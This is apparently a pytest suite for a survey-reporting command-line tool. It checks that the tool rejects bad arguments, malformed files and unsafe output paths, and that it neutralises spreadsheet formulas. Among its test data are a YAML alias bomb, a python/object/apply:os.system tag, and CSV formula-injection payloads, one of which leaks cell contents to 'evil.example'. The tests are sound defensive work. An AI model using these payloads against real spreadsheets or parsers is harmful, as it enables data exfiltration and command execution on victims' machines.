"""Hostile input to ``survey-kit report``, ``appendix``, ``generate-sample`` and the parser.

Every case runs the command in-process (``survey_kit.cli.main``) and asserts the
exact outcome: exit 2 with one ``error:`` line naming the fault and no
traceback, or the correct handling (an output refused and the file untouched,
a formula neutralised). The report-spec cases go through ``appendix --spec``,
which reads the spec before the responses, so each takes a fraction of a second.
"""

from __future__ import annotations

import csv
import os
import shutil
from pathlib import Path

import pytest
import yaml

from survey_kit import _files
from survey_kit._formulas import TRIGGERS, needs_escape
from survey_kit.cli import _input_files, build_parser, main

ROOT = Path(__file__).resolve().parents[2]
Q = ROOT / "questionnaires" / "japan_creators_2024.yaml"
SPEC = ROOT / "questionnaires" / "japan_creators_2024.report.yaml"
RAW = ROOT / "sample_data" / "japan_creators_2024_raw.csv"
TARGETS = ROOT / "sample_data" / "japan_creators_population_targets.csv"
SID = "japan_creators_2024"

BOMB = ("a: &a [x, x, x, x, x, x, x, x, x, x]\n"
        + "".join(f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
                  for p, c in zip("abcdefg", "bcdefgh")))


# ---------------------------------------------------------------------------
# helpers
# ---------------------------------------------------------------------------

def _run(argv, capsys) -> tuple[int, str, str]:
    try:
        code = main([str(a) for a in argv])
    except SystemExit as exc:          # argparse
        code = exc.code
    out = capsys.readouterr()
    return code, out.out, out.err


def _refused(argv, fragment: str, capsys) -> str:
    """Exit 2, exactly one ``error:`` line (naming ``fragment``), no traceback."""
    code, _, err = _run(argv, capsys)
    assert code == 2, err
    assert "Traceback" not in err and "Exception ignored" not in err, err
    errors = [line for line in err.splitlines() if ": error: " in line]
    assert len(errors) == 1, err
    assert fragment in errors[0], err
    return errors[0]


def _spec_dict() -> dict:
    return yaml.safe_load(SPEC.read_text(encoding="utf-8"))


def _write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def _appendix(tmp_path: Path, *extra) -> list:
    return ["appendix", Q, RAW, "--out", tmp_path / "out", "--format", "md", "--no-figures",
            *extra]


# ---------------------------------------------------------------------------
# the parser: unknown commands and options, bad choices
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("argv, fragment", [
    pytest.param(["frobnicate"], "invalid choice: 'frobnicate'", id="unknown-command"),
    pytest.param(["--frob"], "unrecognized arguments: --frob", id="unknown-top-option"),
    pytest.param(["report", "--frob"], "unrecognized arguments: --frob",
                 id="report-unknown-option"),
    pytest.param(["report", "--lang", "de"], "invalid choice: 'de'", id="report-lang-de"),
    pytest.param(["report", "--lang"], "expected one argument", id="report-lang-no-value"),
    pytest.param(["appendix", Q, RAW, "--out", "o", "--lang", "EN"], "invalid choice: 'EN'",
                 id="appendix-lang-upper"),
    pytest.param(["appendix"], "the following arguments are required",
                 id="appendix-no-arguments"),
    pytest.param(["appendix", Q, RAW], "--out", id="appendix-no-out"),
    pytest.param(["generate-sample", "--seed", "abc"], "invalid int value: 'abc'",
                 id="seed-not-a-number"),
    pytest.param(["generate-sample", "--seed", "1.5"], "invalid int value: '1.5'",
                 id="seed-fraction"),
    pytest.param(["generate-sample", "extra"], "unrecognized arguments: extra",
                 id="generate-positional"),
    pytest.param(["report", Q, RAW, "third"], "unrecognized arguments: third",
                 id="report-three-positionals"),
])
def test_parser_refuses(argv, fragment, capsys):
    _refused(argv, fragment, capsys)


@pytest.mark.parametrize("formats", ["pdf", "md,pdf", "", ",,,", "md;html", "xlsx tex"])
def test_bad_format_list(formats, tmp_path, capsys):
    _refused(["report", "--out", tmp_path / "o", "--format", formats], "--format takes",
             capsys)
    assert not (tmp_path / "o").exists()


def test_appendix_bad_format(tmp_path, capsys):
    _refused(["appendix", Q, RAW, "--out", tmp_path / "o", "--format", "md,docx"],
             "--format takes", capsys)


def test_negative_seed(tmp_path, capsys):
    _refused(["generate-sample", "--out", tmp_path / "g", "--seed", "-1"], "seed must be",
             capsys)


@pytest.mark.parametrize("argv, fragment", [
    pytest.param(["report", Q], "give RESPONSES", id="questionnaire-without-responses"),
    pytest.param(["report", "--targets", TARGETS], "--targets needs",
                 id="targets-without-survey"),
])
def test_report_argument_combinations(argv, fragment, tmp_path, capsys):
    _refused([*argv, "--out", tmp_path / "o"], fragment, capsys)


# ---------------------------------------------------------------------------
# input files: missing, folders, devices, unreadable, not text
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("slot", ["questionnaire", "responses", "targets", "spec"])
@pytest.mark.parametrize("kind, fragment", [
    ("missing", "file not found"),
    ("folder", "this is a folder"),
    ("device", "not a regular file"),
])
def test_bad_input_path(slot, kind, fragment, tmp_path, capsys):
    bad = {"missing": tmp_path / "nope.yaml", "folder": tmp_path,
           "device": Path(os.devnull)}[kind]
    args = {"questionnaire": Q, "responses": RAW, "targets": TARGETS, "spec": SPEC}
    args[slot] = bad
    argv = ["appendix", args["questionnaire"], args["responses"], "--targets", args["targets"],
            "--spec", args["spec"], "--out", tmp_path / "out"]
    line = _refused(argv, fragment, capsys)
    assert str(bad) in line
    assert not (tmp_path / "out").exists()


def test_report_command_checks_its_inputs_too(tmp_path, capsys):
    line = _refused(["report", Q, tmp_path, "--out", tmp_path / "out"], "this is a folder",
                    capsys)
    assert str(tmp_path) in line


def test_unreadable_questionnaire(tmp_path, capsys, monkeypatch):
    """A file the user may not read (simulated: permissions do not stop root, as in CI)."""
    q = _write(tmp_path / "q.yaml", Q.read_text(encoding="utf-8"))
    real_read_text = Path.read_text

    def read_text(self, *args, **kwargs):
        if self.name == "q.yaml":
            raise PermissionError(13, "Permission denied", str(self))
        return real_read_text(self, *args, **kwargs)

    monkeypatch.setattr(Path, "read_text", read_text)
    _refused(["report", q, RAW, "--out", tmp_path / "out"], "q.yaml", capsys)


@pytest.mark.parametrize("content, fragment", [
    pytest.param(b"\xff\xfe\x00garbage\x00", "q.yaml", id="binary"),
    pytest.param(b"", "q.yaml", id="empty"),
    pytest.param(b"- just\n- a list\n", "mapping", id="list"),
    pytest.param(BOMB.encode(), "aliases", id="alias-bomb"),
    pytest.param(Q.read_bytes() + b"survey: {id: again}\n", "repeated", id="repeated-key"),
    pytest.param(b"survey: !!python/object/apply:os.system [echo hi]\n",
                 "python/object/apply:os.system", id="python-tag"),
    pytest.param(b"survey: [unclosed\n", "not valid YAML", id="syntax"),
    pytest.param(("a:\n" + "".join("  " * i + "- \n" for i in range(1, 200))).encode(),
                 "nesting", id="deep-nesting"),
])
def test_bad_questionnaire_file(content, fragment, tmp_path, capsys):
    q = _write(tmp_path / "q.yaml", content)
    _refused(["report", q, RAW, "--out", tmp_path / "out"], fragment, capsys)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("name, content, fragment", [
    pytest.param("r.csv", b"", "r.csv", id="empty-csv"),
    pytest.param("r.csv", b"\x00\x01\x02\xff\xfe", "r.csv", id="binary-csv"),
    pytest.param("r.xlsx", b"not a zip file", "r.xlsx", id="fake-xlsx"),
    pytest.param("r.sav", b"not spss", "r.sav", id="fake-sav"),
    pytest.param("r.json", b"{}", "extension", id="unknown-extension"),
])
def test_bad_responses_file(name, content, fragment, tmp_path, capsys):
    r = _write(tmp_path / name, content)
    _refused(["report", Q, r, "--out", tmp_path / "out"], fragment, capsys)


@pytest.mark.parametrize("content, fragment", [
    pytest.param(b"", "t.csv", id="empty"),
    pytest.param(b"\xff\xfe\x00\x01", "t.csv", id="binary"),
    pytest.param(b"variable,level,target\nscreener_creator,nobody,5\n", "nobody",
                 id="unknown-level"),
])
def test_bad_targets_file(content, fragment, tmp_path, capsys):
    t = _write(tmp_path / "t.csv", content)
    _refused(_appendix(tmp_path, "--targets", t), fragment, capsys)


# ---------------------------------------------------------------------------
# report spec: unknown keys, bad derived variables, unknown names, bounds, types
# ---------------------------------------------------------------------------

def _spec_case(mutate):
    def build() -> str:
        d = _spec_dict()
        mutate(d)
        return yaml.safe_dump(d, allow_unicode=True, sort_keys=False)
    return build


def _set(path: str, value):
    def mutate(d):
        *parents, last = path.split(".")
        node = d
        for p in parents:
            node = node[int(p)] if p.isdigit() else node[p]
        if last.isdigit():
            node[int(last)] = value
        else:
            node[last] = value
    return mutate


def _add_derived(**fields):
    def mutate(d):
        d["derived"] = [{"id": "n_tools", "count": "tools", "label": "Tools used", **fields}]
    return mutate


def _drop(path: str):
    def mutate(d):
        *parents, last = path.split(".")
        node = d
        for p in parents:
            node = node[int(p)] if p.isdigit() else node[p]
        del node[last]
    return mutate


def _duplicate_headline(d):
    d["headlines"].append(dict(d["headlines"][0]))


SPEC_CASES = [
    # unknown keys
    ("unknown-top-key", _spec_case(_set("headline", [])), "headline"),
    ("unknown-headline-key", _spec_case(_set("headlines.0.colums", "field")), "colums"),
    ("unknown-quoted-key", _spec_case(_set("quoted.0.value", 53)), "value"),
    # derived variables
    ("derived-unknown-question", _spec_case(_add_derived(count="nothing")), "nothing"),
    ("derived-not-multi", _spec_case(_add_derived(count="field")), "multi-select"),
    ("derived-bad-id", _spec_case(lambda d: d.update(derived=[
        {"id": "1 tools", "count": "tools", "label": "x"}])), "derived[0].id"),
    ("derived-no-label", _spec_case(lambda d: d.update(derived=[
        {"id": "n_tools", "count": "tools"}])), "label"),
    ("derived-bad-bands", _spec_case(_add_derived(bands="many")), "bands"),
    # names that do not exist in the questionnaire
    ("headline-unknown-rows", _spec_case(_set("headlines.0.rows", "nothing")), "nothing"),
    ("headline-unknown-cols", _spec_case(_set("headlines.0.cols", "nothing")), "nothing"),
    ("headline-numeric-cols", _spec_case(_set("headlines.0.cols", "export_share")),
     "not categorical"),
    ("headline-net-not-grid", _spec_case(_set("headlines.0.net", {
        "key": "x", "label": "X", "levels": ["none"]})), "'net' applies to a grid"),
    ("grid-net-bad-level", _spec_case(_set("headlines.0", {
        "id": "g", "title": "Outlook", "rows": "outlook", "cols": "field",
        "net": {"key": "agree", "label": "Agree", "levels": ["very"]}})), "'very'"),
    ("composition-unknown", _spec_case(_set("composition", ["nothing"])), "nothing"),
    ("composition-open-question", _spec_case(_set("composition", ["comments"])),
     "comments"),
    ("quoted-unknown-variable", _spec_case(_set("quoted.0.variable", "nothing")), "nothing"),
    ("quoted-unknown-level", _spec_case(_set("quoted.0.levels", ["99_plus"])), "99_plus"),
    ("quoted-share-no-levels", _spec_case(_set("quoted.0.levels", [])), "give the level"),
    ("quoted-share-text", _spec_case(_set("quoted.0.published", "half")),
     "published as a number"),
    ("quoted-mode-not-a-level", _spec_case(lambda d: d["quoted"][0].update(
        statistic="mode", published="everything")), "quoted[0].published: 'everything'"),
    ("quoted-domain-unknown", _spec_case(_set("quoted.0.domain.variable", "nothing")),
     "nothing"),
    ("quoted-domain-no-levels", _spec_case(_set("quoted.0.domain.levels", [])),
     "domain"),
    ("quoted-bad-relation", _spec_case(_set("quoted.0.relation", ">=")), "relation"),
    ("quoted-bad-basis", _spec_case(_set("quoted.0.basis", "raked")), "basis"),
    ("summary-unknown", _spec_case(_set("summary", "nothing")), "summary 'nothing'"),
    ("duplicate-headline-id", _spec_case(_duplicate_headline), "duplicate headline id"),
    ("other-questionnaire", _spec_case(_set("questionnaire", "another_survey")),
     "another_survey"),
    ("no-questionnaire-key", _spec_case(_drop("questionnaire")), "questionnaire"),
    # wrong types
    ("headlines-a-string", _spec_case(_set("headlines", "all")), "headlines"),
    ("headlines-a-mapping", _spec_case(_set("headlines", {"a": 1})), "headlines"),
    ("headline-title-a-list", _spec_case(_set("headlines.0.title", ["a", "b"])), "title"),
    ("published-a-list", _spec_case(_set("quoted.0.published", [53])), "published"),
    # YAML faults
    ("alias-bomb", lambda: BOMB, "aliases"),
    ("repeated-key", lambda: SPEC.read_text(encoding="utf-8") + "summary: again\n",
     "repeated"),
    ("python-tag", lambda: "questionnaire: !!python/object/apply:os.system [echo hi]\n",
     "python/object/apply:os.system"),
    ("syntax-error", lambda: "questionnaire: [japan_creators_2024\n", "not valid YAML"),
    ("top-level-list", lambda: "- questionnaire\n", "must be a mapping"),
    ("empty-file", lambda: "", "must be a mapping"),
    ("deep-nesting", lambda: "a: " + "[" * 300 + "]" * 300 + "\n", "nesting"),
]


@pytest.mark.parametrize("build, fragment", [pytest.param(b, f, id=i) for i, b, f in SPEC_CASES])
def test_bad_report_spec(build, fragment, tmp_path, capsys):
    spec = _write(tmp_path / "spec.yaml", build())
    line = _refused(_appendix(tmp_path, "--spec", spec), fragment, capsys)
    assert "spec.yaml" in line
    assert not (tmp_path / "out").exists()


def test_bad_spec_beside_the_questionnaire_is_named(tmp_path, capsys):
    """The spec found next to the questionnaire (no --spec) is checked the same way."""
    q = _write(tmp_path / "q.yaml", Q.read_text(encoding="utf-8").replace(
        "targets: ../sample_data/", f"targets: {ROOT / 'sample_data'}/"))
    _write(tmp_path / "q.report.yaml", "questionnaire: japan_creators_2024\nheadline: []\n")
    line = _refused(["report", q, RAW, "--out", tmp_path / "out"], "headline", capsys)
    assert "q.report.yaml" in line


# ---------------------------------------------------------------------------
# outputs: never over an input, never over a file survey-kit did not write
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("command", ["report", "appendix"])
@pytest.mark.parametrize("victim", ["questionnaire", "responses", "targets"])
def test_out_pointing_at_an_input_is_refused(command, victim, tmp_path, capsys):
    copies = {name: shutil.copy(src, tmp_path / Path(src).name)
              for name, src in (("questionnaire", Q), ("responses", RAW),
                                ("targets", TARGETS))}
    before = Path(copies[victim]).read_bytes()
    _refused([command, copies["questionnaire"], copies["responses"], "--targets",
              copies["targets"], "--out", copies[victim]], "names a file, not a folder", capsys)
    assert Path(copies[victim]).read_bytes() == before


def test_an_input_inside_the_output_folder_is_never_replaced_even_with_force(tmp_path, capsys):
    """The targets file sits where the appendix writes a table: refused, even with --force."""
    out = tmp_path / "out"
    targets = _write(out / "tables" / "composition.csv", TARGETS.read_text(encoding="utf-8"))
    before = targets.read_bytes()
    line = _refused(_appendix(tmp_path, "--targets", targets, "--force"),
                    "refusing to write over an input file", capsys)
    assert "composition.csv" in line and targets.read_bytes() == before
    assert not (out / "appendix.md").exists()          # checked before anything was written


def test_the_targets_a_questionnaire_names_are_an_input_too(tmp_path, capsys):
    """Not given on the command line: found through ``weighting.targets``."""
    out = tmp_path / "out"
    targets = _write(out / "tables" / "composition.csv", TARGETS.read_text(encoding="utf-8"))
    q = _write(tmp_path / "q.yaml", Q.read_text(encoding="utf-8").replace(
        "targets: ../sample_data/japan_creators_population_targets.csv",
        "targets: out/tables/composition.csv"))
    shutil.copy(SPEC, tmp_path / "q.report.yaml")
    before = targets.read_bytes()
    _refused(["appendix", q, RAW, "--out", out, "--format", "md", "--no-figures", "--force"],
             "refusing to write over an input file", capsys)
    assert targets.read_bytes() == before


def test_a_file_of_the_users_in_the_appendix_folder(tmp_path, capsys):
    mine = _write(tmp_path / "out" / "appendix.md", "my notes\n")
    line = _refused(_appendix(tmp_path), "did not write", capsys)
    assert "appendix.md" in line and "--force" in line
    assert mine.read_text() == "my notes\n"
    assert not (tmp_path / "out" / "tables").exists()  # nothing else was written


def test_force_replaces_a_users_file(tmp_path, capsys):
    mine = _write(tmp_path / "out" / "appendix.md", "my notes\n")
    code, _, err = _run(_appendix(tmp_path, "--force"), capsys)
    assert code == 0, err
    assert mine.read_text(encoding="utf-8") != "my notes\n"
    # now listed as survey-kit's: a second run needs no --force
    code, _, err = _run(_appendix(tmp_path), capsys)
    assert code == 0, err


def test_a_users_summary_stops_the_report_before_any_work(tmp_path, capsys):
    mine = _write(tmp_path / "out" / "summary.md", "mine\n")
    _refused(["report", Q, RAW, "--out", tmp_path / "out"], "summary.md", capsys)
    assert mine.read_text() == "mine\n"
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["summary.md"]


def test_manifest_name_is_reserved(tmp_path, capsys):
    with _files.output_policy(), pytest.raises(Exception, match="reserved"):
        _files.write_text(tmp_path / _files.MANIFEST, "x")


@pytest.fixture(scope="module")
def sample_written(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("sample")
    assert main(["generate-sample", "--out", str(out)]) == 0
    return out


def test_generate_sample_refuses_a_readme_it_did_not_write(tmp_path, capsys):
    readme = _write(tmp_path / "README.md", "# my project\n")
    line = _refused(["generate-sample", "--out", tmp_path], "README.md", capsys)
    assert "did not write" in line and "--force" in line
    assert readme.read_text() == "# my project\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["README.md"]   # nothing written


def test_generate_sample_force_replaces_it(tmp_path, sample_written, capsys):
    readme = _write(tmp_path / "README.md", "# my project\n")
    code, out, err = _run(["generate-sample", "--out", tmp_path, "--force"], capsys)
    assert code == 0, err
    assert readme.read_bytes() == (sample_written / "README.md").read_bytes()


def test_generate_sample_again_into_its_own_folder(sample_written, capsys):
    before = {p.name: p.read_bytes() for p in sample_written.iterdir()}
    code, _, err = _run(["generate-sample", "--out", sample_written], capsys)
    assert code == 0, err
    assert {p.name: p.read_bytes() for p in sample_written.iterdir()} == before


def test_generate_sample_into_a_file(tmp_path, capsys):
    f = _write(tmp_path / "notes.txt", "x")
    _refused(["generate-sample", "--out", f], "names a file, not a folder", capsys)
    assert f.read_text() == "x"


def test_the_committed_sample_can_be_regenerated_without_force():
    """sample_data/ carries the manifest of the files survey-kit wrote there."""
    listed = (ROOT / "sample_data" / _files.MANIFEST).read_text(encoding="utf-8").split()
    assert sorted(listed) == sorted(p.name for p in (ROOT / "sample_data").iterdir()
                                    if p.is_file() and p.name != _files.MANIFEST)


@pytest.mark.parametrize("argv, expected", [
    pytest.param(["report", Q, RAW, "--targets", TARGETS], {Q, RAW, TARGETS}, id="report"),
    pytest.param(["appendix", Q, RAW, "--out", "o", "--spec", SPEC], {Q, RAW, SPEC},
                 id="appendix"),
    pytest.param(["crosstab", Q, RAW, "--rows", "field", "--rows", TARGETS, "--cols",
                  "field"], {Q, RAW, TARGETS}, id="append-list"),
])
def test_every_input_argument_is_an_input(argv, expected):
    args = build_parser().parse_args([str(a) for a in argv])
    assert {p.resolve() for p in _input_files(args)} == {Path(p).resolve() for p in expected}


# ---------------------------------------------------------------------------
# bundled sample: bounded YAML also where the bundle is listed
# ---------------------------------------------------------------------------

def _fake_bundle(monkeypatch, tmp_path, questionnaire: str, raw: str | None) -> None:
    import survey_kit.report.outputs as outputs

    qdir, sdir = tmp_path / "questionnaires", tmp_path / "sample_data"
    _write(qdir / "x.yaml", questionnaire)
    sdir.mkdir(exist_ok=True)
    if raw is not None:
        _write(sdir / "x_raw.csv", raw)
    monkeypatch.setattr(outputs, "find_bundle", lambda: (qdir, sdir))


def test_bundle_with_an_alias_bomb_questionnaire(tmp_path, monkeypatch, capsys):
    _fake_bundle(monkeypatch, tmp_path, BOMB, "respondent_id\n")
    _refused(["report", "--out", tmp_path / "out"], "aliases", capsys)


def test_bundle_without_surveys(tmp_path, monkeypatch, capsys):
    _fake_bundle(monkeypatch, tmp_path, "survey: {id: x}\n", None)
    line = _refused(["report", "--out", tmp_path / "out"], "no questionnaire in", capsys)
    assert "'survey-kit generate-sample'" in line


# ---------------------------------------------------------------------------
# formulas in labels, titles and answers never reach a spreadsheet as formulas
# ---------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory) -> Path:
    """A report whose option label, headline title and open answers begin with = + - @."""
    folder = tmp_path_factory.mktemp("poisoned")
    text = Q.read_text(encoding="utf-8").replace(
        "label: Anime and illustration", f"label: '{EVIL}'").replace(
        "targets: ../sample_data/", f"targets: {ROOT / 'sample_data'}/")
    q = _write(folder / "q.yaml", text)
    spec = _spec_dict()
    spec["headlines"][0].update(title="+cmd|' /C calc'!A0", figure="")   # no "Figure 13." before it
    _write(folder / "q.report.yaml", yaml.safe_dump(spec, allow_unicode=True))
    with RAW.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    col = rows[0].index("Q9")
    for k, row in enumerate(rows[1:]):
        row[col] = ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", EVIL,
                    "\t=1+1"][k % 4]
    with (folder / "raw.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    assert main(["report", str(q), str(folder / "raw.csv"), "--out", str(folder / "out"),
                 "--quiet"]) == 0
    return folder / "out" / SID


def _live(value) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS) and needs_escape(value)


@pytest.mark.parametrize("pattern", ["tables/*.csv", "data/*_clean_weighted.csv",
                                     "data/*_excluded.csv"])
def test_no_live_formula_in_report_csv(poisoned, pattern):
    files = sorted(poisoned.glob(pattern))
    assert files
    escaped = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                assert not any(_live(cell) for cell in row), (path.name, row)
                escaped += sum(cell.startswith("'") and cell[1:2] in TRIGGERS for cell in row)
    assert escaped                              # the hostile text is there, neutralised


def test_no_live_formula_in_the_appendix_workbook(poisoned):
    from openpyxl import load_workbook

    wb = load_workbook(poisoned / "appendix.xlsx")
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not [v for v in texts if _live(v)]
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for v in texts)
    assert any(isinstance(v, str) and v.startswith("'+cmd") for v in texts)


def test_trusted_data_keep_their_text(tmp_path, capsys):
    """--no-escape-formulas writes labels as they are (the switch, not a silent default)."""
    q = _write(tmp_path / "q.yaml", Q.read_text(encoding="utf-8").replace(
        "label: Anime and illustration", "label: '=1+1'").replace(
        "targets: ../sample_data/", f"targets: {ROOT / 'sample_data'}/"))
    shutil.copy(SPEC, tmp_path / "q.report.yaml")
    code, _, err = _run(["appendix", q, RAW, "--out", tmp_path / "out", "--format", "md",
                         "--no-figures", "--no-escape-formulas"], capsys)
    assert code == 0, err
    text = (tmp_path / "out" / "tables" / "composition.csv").read_text(encoding="utf-8")
    assert ",=1+1," in text and "'=1+1" not in text
